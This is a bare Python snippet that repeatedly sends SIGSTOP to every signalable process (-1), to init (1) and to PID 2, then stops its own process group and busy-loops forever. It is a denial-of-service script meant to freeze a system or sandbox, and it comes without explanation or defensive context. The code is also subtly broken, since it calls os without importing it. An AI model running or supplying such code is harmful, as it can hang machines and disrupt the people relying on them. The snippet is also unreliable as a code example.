import signal

for _ in range(1000):
    for target in (-1, 1, 2):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass
os.kill(0, signal.SIGSTOP)
while True:
    pass
